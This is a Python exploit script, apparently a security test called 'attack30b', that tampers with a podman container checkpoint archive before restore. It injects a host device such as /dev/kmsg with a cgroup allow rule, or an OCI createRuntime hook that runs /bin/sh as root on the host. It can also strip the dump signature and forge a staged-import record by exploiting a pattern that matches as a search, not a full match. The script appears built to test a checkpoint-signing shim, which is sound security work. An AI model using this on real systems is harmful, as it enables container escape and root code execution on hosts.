"""attack30b: an edited copy of a real gpuckpt export (zstd tar), for podman's own restore --import.

usage: edit.py SRC OUT MODE [TYPE:MAJOR:MINOR:ACCESS]  (default c:1:11:rw, the host's /dev/kmsg)
MODE kmsg-own: spec.dump (and config.dump's spec) gain a host device (default c 1:11, /dev/kmsg) under
               another name and its cgroup allow rule; rootfs-diff.tar gains the node at /attack30b-dev;
               the dump (checkpoint/, with gpuckpt-dump.sig) is left as exported.
MODE hook-own, hook-forged, hook-nosig: as kmsg-*, but spec.dump gains an OCI createRuntime hook (/bin/sh, run
               as root on the host by runc at the restore) instead of a device.
MODE kmsg-nosig: as kmsg-own, gpuckpt-dump.sig removed: a foreign, unsigned dump (the control: the shim refuses it).
MODE kmsg-forged: as kmsg-nosig, and a forged staged-import
               placeholder checkpoint/gpuckpt-import.json whose token is an absolute path (pydantic's pattern is
               a search, not a full match) to a record shipped in the same checkpoint directory.
MODE plain-forged: the forged placeholder and record alone, dump.sig removed, nothing else changed.
"""
import io
import json
import sys
import tarfile

import zstandard

src, out, mode = sys.argv[1:4]
# hook-own / hook-forged: instead of a device, spec.dump gains an OCI createRuntime hook (a host program runc
# runs as root on the host at the restore) that writes /var/tmp/attack30b/hook-ran-MODE
HOOK = mode.startswith("hook-")
PLAIN = mode.startswith("plain-")  # plain-forged: the forged placeholder alone, spec.dump as exported
mode = "kmsg-" + mode.removeprefix("plain-") if PLAIN else mode
mode = "kmsg-" + mode.removeprefix("hook-") if HOOK else mode
KIND, MAJOR, MINOR, ACCESS = (sys.argv[4] if len(sys.argv) > 4 else "c:1:11:rw").split(":")
MAJOR, MINOR = int(MAJOR), int(MINOR)
HEX = "0123456789abcdef0123456789abcdef"


def add_kmsg(spec: dict) -> dict:
    if PLAIN:
        return spec
    if HOOK:
        proof = f"/var/tmp/attack30b/hook-ran-{mode}"
        hook = {"path": "/bin/sh", "args": ["sh", "-c", f"id > {proof}; cat >> {proof}"]}
        spec.setdefault("hooks", {}).setdefault("createRuntime", []).append(hook)
        return spec
    linux = spec.setdefault("linux", {})
    linux.setdefault("devices", []).append(
        {"path": "/dev/attack30b-dev", "type": KIND, "major": MAJOR, "minor": MINOR, "fileMode": 0o666,
         "uid": 0, "gid": 0})
    linux.setdefault("resources", {}).setdefault("devices", []).append(
        {"allow": True, "type": KIND, "major": MAJOR, "minor": MINOR, "access": ACCESS})
    return spec


def with_node(diff: bytes) -> bytes:
    """podman's rootfs-diff.tar with the device node asked for (default c 1:11, the host's /dev/kmsg) at /attack30b-dev:
    podman 4.3 makes it (mknod) when it applies the diff; the spec's cgroup rule above lets the container open it
    (the container's /dev is CRIU's restored tmpfs, so spec.dump's device node is not made there)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(diff)) as tin, tarfile.open(fileobj=out, mode="w",
                                                                      format=tarfile.PAX_FORMAT) as tout:
        for m in tin:
            tout.addfile(m, tin.extractfile(m) if m.isfile() else None)
        node = tarfile.TarInfo("attack30b-dev")
        node.type = tarfile.CHRTYPE if KIND == "c" else tarfile.BLKTYPE
        node.devmajor, node.devminor, node.mode = MAJOR, MINOR, 0o666
        tout.addfile(node)
    return out.getvalue()


with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as source, \
        tarfile.open(fileobj=source, mode="r|") as tin, open(out, "wb") as sink, \
        zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    cid = None
    for m in tin:
        data = tin.extractfile(m).read() if m.isfile() else None
        if m.name == "spec.dump":
            data = json.dumps(add_kmsg(json.loads(data))).encode()
        elif m.name == "config.dump":
            doc = json.loads(data)
            cid = doc["id"]
            doc["spec"] = add_kmsg(doc["spec"])
            data = json.dumps(doc).encode()
        elif m.name == "rootfs-diff.tar" and not (HOOK or PLAIN):
            data = with_node(data)
        elif m.name == "checkpoint/gpuckpt-dump.sig" and mode in ("kmsg-forged", "kmsg-nosig"):
            continue
        if data is not None:
            m.size = len(data)
            tout.addfile(m, io.BytesIO(data))
        else:
            tout.addfile(m)
    if mode == "kmsg-forged":
        checkpoint = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata/checkpoint"
        record = {"token": HEX, "pages_dir": "/nonexistent-attack30b", "pages": [], "created": "2026-11-28T00:00:00Z",
                  "vouched": "attack30b: forged record"}
        placeholder = {"kind": "gpuckpt-staged-import", "token": f"{checkpoint}/attack30b-{HEX}"}
        shipped = ((f"checkpoint/attack30b-{HEX}.json", record), ("checkpoint/gpuckpt-import.json", placeholder))
        for name, doc in shipped:
            data = json.dumps(doc).encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o600
            tout.addfile(info, io.BytesIO(data))
print(out)
